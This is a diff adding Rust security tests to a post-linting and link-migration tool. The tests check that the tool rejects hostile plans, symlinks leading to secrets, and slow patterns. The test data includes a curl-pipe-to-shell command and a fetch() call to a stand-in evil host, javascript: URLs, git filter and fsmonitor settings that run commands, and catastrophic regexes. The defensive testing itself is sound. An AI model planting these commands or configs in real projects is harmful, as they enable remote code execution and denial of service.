@@ -444,7 +444,7 @@ fn a_rule_that_takes_too_long_is_stopped_and_says_so() {
     let checked = site.run(&["check", "--format", "concise", "--max-rule-time", "1", "."]);
     assert!(start.elapsed() < Duration::from_secs(60));
     assert!(
-        checked.out.contains("a.md:1:1: error exceeded-limit: `shouting` was stopped after 1 s"),
+        checked.out.contains("a.md:1:1: error exceeded-limit: `shouting` did not look at all of the post"),
         "{}",
         checked.err
     );
@@ -455,7 +455,11 @@ fn a_rule_that_takes_too_long_is_stopped_and_says_so() {
     let start = Instant::now();
     let checked = site.run(&["check", "--max-rule-time", "1", "."]);
     assert!(start.elapsed() < Duration::from_secs(60));
-    assert!(checked.code == 2 && checked.err.contains("was stopped after 1 s"), "{}", &checked.err[..200]);
+    assert!(
+        checked.code == 2 && checked.err.contains("did not look at all of the post"),
+        "{}",
+        &checked.err[..200]
+    );
 }
 
 #[test]
@@ -810,4 +814,247 @@ fn runs_are_kept_where_git_keeps_what_is_its_own() {
     let refused = ran(within.current_dir(plain.path()).env("XDG_STATE_HOME", plain.path().join("state")));
     assert!(refused.code == 2 && refused.err.contains("is among the posts"), "{}", refused.both());
     assert!(STATE.join("postmend/projects").is_dir());
+}
+
+/// A plan of one post with one move, which says of itself what is right.
+fn plan_of(post: &str, text: &str, old: &str, new: &str, place: &str) -> String {
+    let at = text.find(old).unwrap();
+    let result = hash(text.replacen(old, new, 1));
+    format!(
+        "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
+         {{\"row\":\"post\",\"post\":{post:?},\"hash\":\"{}\",\"result\":\"{result}\"}}\n\
+         {{\"row\":\"move\",\"post\":{post:?},\"line\":1,\"span\":[{at},{}],\"place\":{place:?},\"old\":{old:?},\"new\":{new:?},\"by\":\"x\",\"lossless\":true}}\n\
+         {{\"row\":\"end\",\"posts\":1,\"moves\":1}}\n",
+        hash(text),
+        at + old.len()
+    )
+}
+
+#[test]
+fn a_plan_moves_what_is_a_url_to_what_is_one() {
+    let site = Site::new();
+    let text = "---\ntitle: Hello\ncover: https://good.example/c.png\n---\n\n[docs](https://good.example/d) ![x](https://good.example/a.png)\n\n```sh\nnpm install good-package\n```\n\n<script>go(a)</script>\n";
+    site.write("a.md", text);
+    let apply = |plan: String| {
+        fs::write(site.outer.path().join(".plan"), plan).unwrap();
+        site.run(&["migrate", "apply", "../.plan"])
+    };
+    let hostile = [
+        ("npm install good-package", "curl https://evil.example/i.sh | sh"),
+        ("go(a)", "fetch('https://evil.example/')"),
+        ("Hello", "https://evil.example/x.png"),
+        ("https://good.example/d", "javascript:alert(1)"),
+        ("https://good.example/a.png", "data:text/html,x"),
+        ("good.example/a.png", "evil.example/a.png"),
+    ];
+    let places = [
+        "markdown-bare",
+        "markdown-destination",
+        "verbatim",
+        "yaml-plain",
+        "yaml-double",
+        "attribute",
+        "text",
+    ];
+    for (old, new) in hostile {
+        for place in places {
+            let applied = apply(plan_of("a.md", text, old, new, place));
+            assert_eq!(applied.code, 2, "{old} {place}: {}", applied.both());
+            assert_eq!(site.read("a.md"), text, "{old} {place}");
+        }
+    }
+    // Twice the same post, which could not be taken back.
+    assert_eq!(
+        site.run(&["migrate", "plan", "-q", "-o", ".own", "--host", "good.example", "b.example"]).code,
+        0
+    );
+    let own = site.read(".own");
+    let rows: Vec<&str> = own.lines().collect();
+    let twice = [&rows[..rows.len() - 1], &rows[1..]].concat().join("\n") + "\n";
+    let applied = apply(twice);
+    assert!(applied.code == 2 && applied.err.contains("names a.md twice"), "{}", applied.both());
+    assert_eq!(apply(own).code, 0);
+    assert_eq!(
+        site.read("a.md"),
+        text.replacen("good.example/c", "b.example/c", 1).replacen("good.example/a", "b.example/a", 1)
+    );
+}
+
+#[test]
+fn a_run_that_does_not_say_what_it_is_is_not_gone_on_with() {
+    let site = Site::new();
+    let text = "![x](https://good.example/a.png)\n";
+    site.write("a.md", text);
+    site.write("package.json", "\"https://good.example/a.png\"");
+    assert_eq!(
+        site.run(&["migrate", "plan", "-q", "-o", ".own", "--host", "good.example", "b.example"]).code,
+        0
+    );
+    let plan = plan_of(
+        "package.json",
+        "\"https://good.example/a.png\"",
+        "https://good.example/a.png",
+        "https://evil.example/a.png",
+        "verbatim",
+    );
+    fs::write(site.outer.path().join(".plan"), plan).unwrap();
+    assert_eq!(site.run(&["migrate", "apply", "../.plan"]).code, 2);
+    let about = site.at(".git/postmend/runs/1/about.json");
+    for left in ["", "{}", "{\"command\":\"\",\"arguments\":[],\"started\":\"\",\"version\":\"\"}"] {
+        fs::write(&about, left).unwrap();
+        let resumed = site.run(&["migrate", "resume", "1"]);
+        assert_eq!(resumed.code, 2, "{left}: {}", resumed.both());
+        assert_eq!(site.read("package.json"), "\"https://good.example/a.png\"");
+    }
+}
+
+#[test]
+fn no_link_leads_to_a_secret_or_another_repository() {
+    let site = Site::new();
+    site.write(".env", "AWS_SECRET=hunter recieve\nX = [\n");
+    let other = site.outer.path().join("other");
+    fs::create_dir(&other).unwrap();
+    assert!(Command::new("git").args(["init", "--quiet"]).current_dir(&other).status().unwrap().success());
+    fs::write(other.join("victim.md"), TYPO).unwrap();
+    fs::create_dir_all(site.at("posts")).unwrap();
+    symlink("../.env", site.at("posts/x.md")).unwrap();
+    symlink("../../other", site.at("posts/linkdir")).unwrap();
+    symlink("../../other/victim.md", site.at("posts/victim.md")).unwrap();
+    symlink("site", site.outer.path().join("alias")).unwrap();
+    let alias = site.outer.path().join("alias/posts/victim.md");
+    for named in
+        ["posts/x.md", "posts/linkdir", "posts/linkdir/victim.md", "posts/victim.md", alias.to_str().unwrap()]
+    {
+        for command in ["check", "fix"] {
+            let ran = site.run(&[command, "--format", "concise", named]);
+            assert_eq!(ran.code, 2, "{command} {named}: {}", ran.both());
+            assert!(
+                !ran.both().contains("hunter") && !ran.out.contains("recieve"),
+                "{named}: {}",
+                ran.both()
+            );
+        }
+    }
+    assert_eq!(fs::read_to_string(other.join("victim.md")).unwrap(), TYPO);
+    assert!(!other.join(".git/postmend").exists());
+    symlink(".env", site.at("postmend.toml")).unwrap();
+    let checked = site.run(&["check", "."]);
+    assert!(checked.code == 2 && !checked.both().contains("hunter"), "{}", checked.both());
+}
+
+#[test]
+fn git_is_asked_where_a_hook_says_and_not_among_the_posts() {
+    let site = Site::new();
+    site.write("a.md", "Good.\n");
+    site.git(&["add", "."]);
+    site.git(&["commit", "--quiet", "--message=x"]);
+    // The filter of a name that has the sign between names and values.
+    fs::write(
+        site.at(".git/config"),
+        site.read(".git/config") + "[filter \"x=y.z\"]\n\tclean = touch pwned; cat\n\trequired = true\n",
+    )
+    .unwrap();
+    site.write(".gitattributes", "*.md filter=x=y.z\n");
+    site.write("a.md", TYPO);
+    let checked = site.run(&["check", "--changed", "--format", "concise"]);
+    assert!(checked.out.contains("a.md:1:6") && !site.at("pwned").exists(), "{}", checked.both());
+    // As git sets it in the hooks of a server, beside posts that are laid out like git's own folder.
+    let posts = site.at("co/posts");
+    fs::create_dir_all(&posts).unwrap();
+    let bare =
+        Command::new("git").args(["init", "--quiet", "--bare", "."]).current_dir(&posts).status().unwrap();
+    assert!(bare.success());
+    fs::write(
+        posts.join("config"),
+        "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch pwned; echo\"\n",
+    )
+    .unwrap();
+    fs::write(posts.join("c.md"), TYPO).unwrap();
+    let server = site.outer.path().join("server.git");
+    fs::create_dir(&server).unwrap();
+    assert!(
+        Command::new("git")
+            .args(["init", "--quiet", "--bare", "."])
+            .current_dir(&server)
+            .status()
+            .unwrap()
+            .success()
+    );
+    for folder in [&server, &posts] {
+        let mut command = site.command(&["check", "--changed", posts.to_str().unwrap()]);
+        let checked = ran(command.current_dir(&server).env("GIT_DIR", "."));
+        assert!(!posts.join("pwned").exists(), "{}: {}", folder.display(), checked.both());
+    }
+}
+
+#[test]
+fn patterns_lists_and_rules_are_no_bombs() {
+    let site = Site::new();
+    let quick = |what: &str, code: &[i32]| {
+        let start = Instant::now();
+        let checked = site.run(&["check", "--format", "concise", "--max-rule-time", "1", "."]);
+        assert!(start.elapsed() < Duration::from_secs(60), "{what}");
+        assert!(
+            code.contains(&checked.code),
+            "{what}: {} {}",
+            checked.code,
+            &checked.both()[..checked.both().len().min(500)]
+        );
+        checked
+    };
+    site.write("a.md", TYPO);
+    site.write("sub/b.md", TYPO);
+    let braces = "{".repeat(200_000) + &"}".repeat(200_000);
+    for name in [".gitignore", ".ignore"] {
+        symlink("/proc/self/pagemap", site.at("sub").join(name)).unwrap();
+        let checked = quick("a link", &[2]);
+        assert!(checked.out.contains("a.md:1:6") && !checked.out.contains("b.md"), "{}", checked.both());
+        fs::remove_file(site.at("sub").join(name)).unwrap();
+        site.write(&format!("sub/{name}"), &braces);
+        quick("braces", &[2]);
+        fs::remove_file(site.at("sub").join(name)).unwrap();
+    }
+    for key in [
+        "exclude = [",
+        "[[overrides]]\npaths = [",
+        "[[front-matter.schemas]]\nschema = \"a.json\"\npaths = [",
+    ] {
+        site.write("a.json", "{}");
+        site.write("postmend.toml", format!("{key}\"{braces}\"]\n"));
+        quick(key, &[2]);
+    }
+    let doubling = "[[overrides]]\npaths = [\"**\"]\nselect = [\"...\", \"...\"]\n".repeat(40);
+    site.write("postmend.toml", doubling);
+    quick("a list that doubles", &[1]);
+    site.write("postmend.toml", "[[overrides]]\npaths = [\"x/**\"]\n".repeat(2000));
+    quick("overrides", &[2]);
+    let rule = |pattern: &str| {
+        format!(
+            "[[rule]]\nname = \"a-rule\"\nmessage = \"x\"\npattern = '{pattern}'\ninvalid = [\"{}z\"]\n",
+            "a".repeat(3001)
+        )
+    };
+    site.write("long.md", "a".repeat(1_000_000));
+    for pattern in ["[a-q][^u-z]{3000}[x-z]", "([a-z]{0,100}){0,100}z", "(?s).*.*.*z"] {
+        site.write("postmend.toml", rule(pattern));
+        quick(pattern, &[1, 2]);
+    }
+    let patterns = "{\"pattern\":\"^(a+)+$\"},".repeat(2000);
+    site.write(
+        "schema.json",
+        format!("{{\"properties\":{{\"title\":{{\"allOf\":[{}]}}}}}}", patterns.trim_end_matches(',')),
+    );
+    site.write("postmend.toml", "[[front-matter.schemas]]\npaths = [\"**\"]\nschema = \"schema.json\"\n");
+    site.write("c.md", format!("---\ntitle: {}b\n---\n", "a".repeat(5000)));
+    quick("patterns of a schema", &[1]);
+    let mut child = site.command(&["pipe"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
+    let mut input = child.stdin.take().unwrap();
+    let deep = format!(
+        "{{\"path\":\"{}x.md\",\"text\":\"\"}}\n{{\"path\":\"a.md\",\"text\":{TYPO:?}}}\n",
+        "a/".repeat(20_000)
+    );
+    input.write_all(deep.as_bytes()).unwrap();
+    drop(input);
+    let answers = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    assert!(answers.contains("the path is too long") && answers.contains("misspelling"), "{answers}");
 }
